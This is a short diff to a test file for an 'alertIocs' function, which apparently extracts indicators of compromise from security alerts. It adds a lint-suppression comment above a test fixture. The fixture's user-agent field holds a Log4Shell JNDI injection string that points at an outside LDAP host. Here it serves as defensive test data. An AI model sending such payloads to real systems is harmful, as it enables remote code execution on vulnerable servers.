@@ -116,6 +116,7 @@ describe('alertIocs', () => {
 
   it('takes ldap:// lookups as URLs (not their address again), private and upper-case host names', () => {
     const alert = {
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, literally
       ClientRequestUserAgent: '${jndi:ldap://167.99.36.212:1389/ua}',
       privateDnsName: 'ip-10-0-0-1.ec2.internal',
       note: 'seen from dc01.corp.local too',
